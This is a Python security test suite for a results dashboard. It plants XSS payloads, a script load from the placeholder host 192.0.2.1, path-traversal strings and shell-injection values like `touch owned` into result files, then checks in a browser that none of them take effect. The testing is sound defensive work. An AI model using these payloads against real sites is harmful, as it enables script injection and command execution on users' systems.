# SPDX-License-Identifier: MIT
"""Result sets that were made to do harm, through `pvmmu dashboard`, in a real browser.

Wherever a result set may hold any text, it holds what a careless page, script or picture would take for
its own. Nothing of it may run, nothing may leave the page, and no file may be where none belongs. What
the text tries is to call alert(), to set a title or a variable, or to ask 192.0.2.1, which nobody has,
for something.
"""
import copy
import glob
import json
import os
import re

import checks

HTTP = "http://192.0.2.1/owned"
DO = "window.owned=document.title='owned';alert(1)"
PAYLOADS = {
    "tags": '<script src="%s.js"></script><script>%s</script><img src=%s.png onerror="%s"><svg/onload="%s">'
            '<iframe srcdoc="<script>parent.%s</script>"></iframe><base href=%s/><style>@import "%s.css";</style>'
            '<link rel=stylesheet href=%s><meta http-equiv=refresh content="0;url=%s">' % (HTTP, DO, HTTP, DO, DO, DO, HTTP, HTTP, HTTP, HTTP),
    "quotes": "\"'><img src=x onerror=%s>'\"` onmouseover=%s autofocus onfocus=%s x=\"" % (DO, DO, DO),
    "closing": "</title></textarea></style></script></td></table></svg>--></noscript>]]><script>%s</script><![CDATA[<!--" % DO,
    "script": "';%s;//\";%s;//`;%s;//${%s}\\u0022;\\';</script>" % (DO, DO, DO, DO),
    "link": "javascript:%s//" % DO,
    "entities": "&lt;script&gt;%s&lt;/script&gt;&#60;img src=x onerror=%s&#62;&quot;&apos;&Tab;" % (DO, DO),
    "paths": "../../../owned/%2e%2e%2f..\\..\\owned?x#:~:text=y",
    "gnuplot": "`touch owned`$(touch owned){/=99 x}@x_^\\n%s%n%1$s'.system(\"touch owned\").'",
    "long": "<b>" + "very long " * 100 + "x" * 3000,
}
# Characters that are refused in a set; names of files, notes and verdicts may still have them.
INVISIBLE = "<i>\u2028</i>\u2029\u202e<script>%s</script>\u2066\u0085" % DO

SAFE_FILE = re.compile(r"^(\.pvmmu-site|[\w.,~+-]+\.html|badge\.svg|(assets|charts|data|raw|variant|workload)/[\w.,~+-]+)$", re.ASCII)


def leaves(value, at=""):
    """Pointers of all texts below a value."""
    if isinstance(value, dict):
        for k, v in value.items():
            yield from leaves(v, at + "/" + k)
    elif isinstance(value, list):
        for i, v in enumerate(value):
            yield from leaves(v, "%s/%d" % (at, i))
    elif isinstance(value, str):
        yield at


def change(value, pointer, text):
    *above, last = pointer.split("/")[1:]
    for part in above:
        value = value[int(part)] if isinstance(value, list) else value[part]
    key = int(last) if isinstance(value, list) else last
    value[key] = text(value[key])


def refused(t, path):
    """Pointers that the reader complains about, [] if it takes the set."""
    import subprocess
    got = subprocess.run([t.program, "validate", path], capture_output=True, cwd=t.root, stdin=subprocess.DEVNULL)
    error = got.stderr.decode("utf-8", "replace")
    assert "Sanitizer" not in error, error
    return re.findall(r"^pvmmu: %s: (.*?): expected" % re.escape(path), error, re.M) or [error] if got.returncode else []


def hostile(t, base, name, payload):
    """A set in which every text that may hold the payload does."""
    with open(os.path.join(t.root, "tests/golden/two-variants.json"), encoding="utf-8") as f:
        golden = json.load(f)
    for run in golden["runs"]:
        run["warnings"] = ["warning"]
        run["counters"]["hypercalls"]["k" + payload] = 7
        run["counters"]["g" + payload] = {"k" + payload: 3}
        run["identity"]["workload"]["parameters"]["p" + payload] = 5
    bad = copy.deepcopy(golden["runs"][0])
    bad.update(id=bad["id"] + ":bad=1", outcome={"status": "crash", "reason": "reason"}, series=[])
    for gone in ("counters", "counted_iterations", "clock", "conserved", "timer_overhead", "audits"):
        bad.pop(gone, None)
    golden["runs"].append(bad)
    golden["declared"] = [run["id"] for run in golden["runs"]]
    path = os.path.join(base, name)
    keep = set()
    for _ in range(12):
        changed = copy.deepcopy(golden)
        done = [p for p in leaves(golden) if p not in keep and payload not in p]
        for pointer in done:
            # An id has neither blanks nor a second tilde.
            text = re.sub("[ ~]", "", payload) if pointer.endswith("/id") or pointer.startswith("/declared") else payload
            change(changed, pointer, lambda v: v + text)
        with open(path, "w", encoding="utf-8") as f:
            json.dump(changed, f)
        complaints = refused(t, path)
        if not complaints:
            return done
        more = {p for p in done for c in complaints if p == c or p.startswith(c + "/")}
        if not more - keep:
            break
        keep |= more
    raise AssertionError("no set could be made: %s" % complaints[:5])


def beside(base, name, payload, golden):
    """What may lie beside sets: names that are hostile, what cannot be read, a verdict, notes."""
    short = payload[:100].replace("/", "\u2215")
    files = {
        "n %s.json" % short: golden.replace("2026-01-01", "2026-01-02"),
        "b %s.json" % short: json.dumps({"schema_version": 2, "runs": payload}),
        "i.json": json.dumps({"schema_version": 2, "producer": {"name": "pvmmu" + INVISIBLE}, "runs": []}),
        "verdict.json": json.dumps({"verdict_version": 1, "verdict": "fail", "outcome": "failure", "exit_code": 5,
                                    "reason": payload + INVISIBLE, "runs": [{"id": payload, "status": "failure", "reason": payload}]}),
    }
    os.mkdir(os.path.join(base, name))
    for file, text in files.items():
        with open(os.path.join(base, name, file), "w", encoding="utf-8") as f:
            f.write(text)


def make(t, names, *options):
    """A site of a hostile set for each payload, of a harmless one, and of what may lie beside them."""
    base, site = os.path.join(t.tmp, "results"), os.path.join(t.tmp, "site")
    os.mkdir(base)
    with open(os.path.join(t.root, "tests/golden/two-variants.json"), encoding="utf-8") as f:
        golden = f.read()
    with open(os.path.join(base, "good.json"), "w", encoding="utf-8") as f:
        f.write(golden)
    notes = open(os.path.join(base, "annotations.tsv"), "w", encoding="utf-8")
    for name in names:
        done = hostile(t, base, name + ".json", PAYLOADS[name])
        # It is not a test unless the payload was let in.
        for wanted in ("/command", "/runs/0/id", "/runs/0/series/0/unit", "/runs/0/warnings/0", "/runs/0/identity/variant/name"):
            assert wanted in done, "%s does not hold the payload: %s" % (wanted, done)
        beside(base, name, PAYLOADS[name], golden)
        notes.write("2026-01-01\t%s\n2026-01-02\t%s\n%s\n" % (PAYLOADS[name], INVISIBLE, PAYLOADS[name]))
    notes.close()
    before = set(glob.glob(t.tmp + "/**", recursive=True))
    t.pvmmu("dashboard", "-q", "-o", site, "--title", PAYLOADS[names[0]], *options, base)
    made = {p for p in glob.glob(t.tmp + "/**", recursive=True, include_hidden=True) if os.path.isfile(p)} - before
    outside = [p for p in made if not p.startswith(site + "/") and not os.path.basename(p).startswith(".index.sqlite")]
    assert not outside, "files outside of the site: %s" % outside
    odd = [p for p in made if p.startswith(site + "/") and not SAFE_FILE.match(p[len(site) + 1:])]
    assert not odd, "files with odd names: %s" % odd
    assert not os.path.exists(os.path.join(t.root, "owned")), "a command ran"
    return site


def untouched(b):
    """What the payloads try did not happen: a list of what did."""
    text = b.alert()
    if text is not None:
        b.driver.switch_to.alert.accept()
        return ["an alert: " + text]
    bad = b.problems()
    if b.js("return window.owned !== undefined || document.title == 'owned'"):
        bad.append("a script ran")
    bad += b.js("""const bad = [];
        for (const s of document.querySelectorAll('script'))
            if (!/\\/(assets|data)\\/[\\w.-]+\\.js$/.test(s.src)) bad.push('a script of ' + (s.src || s.textContent).slice(0, 80));
        for (const e of document.querySelectorAll('iframe, object, embed, base, foreignObject, animate, set, html style, parsererror'))
            bad.push('an element ' + e.tagName);
        for (const e of document.querySelectorAll('*'))
            for (const a of e.attributes)
                if (/^on/i.test(a.name) || /^\\s*(javascript|data|vbscript):/i.test(a.value) && /^(xlink:)?href|src|action$/.test(a.name))
                    bad.push(`attribute ${a.name} of ${e.tagName}`);
        return bad;""")
    return bad


def use(b):
    """Does what a reader may do: types, chooses, sorts, opens."""
    b.js("""for (const d of document.querySelectorAll('details')) d.open = true;
        for (const i of document.querySelectorAll('input[type=search], input[type=text], input:not([type])')) {
            i.value = '<img src=x onerror=alert(1)>'; i.dispatchEvent(new Event('input', {bubbles: true})); }
        for (const s of document.querySelectorAll('select')) {
            s.selectedIndex = s.options.length - 1; s.dispatchEvent(new Event('change', {bubbles: true})); }
        for (const c of document.querySelectorAll('th button')) c.click();
        for (const i of document.querySelectorAll('input')) { i.value = ''; i.dispatchEvent(new Event('input', {bubbles: true})); }""")
    b.settle()


def test_canary(t):
    """The traps snap: each payload, written into a page or a picture as it is, is noticed"""
    for name in ("tags", "quotes", "closing"):
        for kind, text in (("html", "<!doctype html><title>x</title><p title=\"%s\">%s</p>"),
                           ("svg", '<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:1"/><text>%s</text><script>%s</script></svg>')):
            path = os.path.join(t.tmp, "%s.%s" % (name, kind))
            with open(path, "w", encoding="utf-8") as f:
                f.write(text % ((PAYLOADS[name],) * 2 if kind == "html" else ("x", "window.owned=1")))
            try:
                t.b.open(path)
            except Exception:  # an alert interrupts the driver, which is a sign as well
                pass
            assert untouched(t.b), "%s in %s is not noticed" % (name, kind)
            while t.b.alert() is not None:
                t.b.driver.switch_to.alert.accept()


def visit(t, pages, site, shown):
    """Opens and uses each; shown counts, for each payload, on how many it is shown."""
    bad = []
    for page in pages:
        t.b.open(page)
        found = untouched(t.b)
        text = t.b.js("return document.documentElement.textContent")
        for name in shown:
            shown[name] += PAYLOADS[name][:60] in text
        use(t.b)
        found += untouched(t.b)
        bad += ["%s: %s" % (os.path.relpath(page, site), f) for f in found]
    assert not bad, "\n".join(bad[:10])


def all_payloads(t):
    """One site for the tests that only look at it."""
    def build(where):
        t.tmp = where
        return make(t, list(PAYLOADS), "--no-charts")
    return t.once("hostile", build)


def test_pages(t):
    """Hostile result sets do nothing on any page"""
    site = all_payloads(t)
    pages = sorted(glob.glob(site + "/*.html") + glob.glob(site + "/*/*.html"))
    assert len(pages) > 20, pages
    shown = dict.fromkeys(PAYLOADS, 0)
    visit(t, pages, site, shown)
    assert min(shown.values()) >= 3, "on how many pages each payload is shown: %s" % shown


def test_charts(t):
    """Hostile result sets do nothing in pictures, neither on a page nor opened by themselves"""
    site = make(t, ["closing"])
    charts = sorted(glob.glob(site + "/charts/*.svg") + glob.glob(site + "/*.svg"))
    assert charts, "no charts"
    visit(t, [site + "/index.html"] + sorted(glob.glob(site + "/workload/*.html")), site, {})
    for chart in charts[:: max(1, len(charts) // 8)]:
        t.b.open(chart)
        found = untouched(t.b)
        assert not found, "%s: %s" % (os.path.relpath(chart, site), found)


def test_narrow(t):
    """Long and odd names make no page wide, unreadable or nameless"""
    site = all_payloads(t)
    for page in ("index.html", "sets.html", "environment.html"):
        bad = checks.page(t.b, os.path.join(site, page), tab=False)
        assert not bad, "%s: %s" % (page, bad[:4])
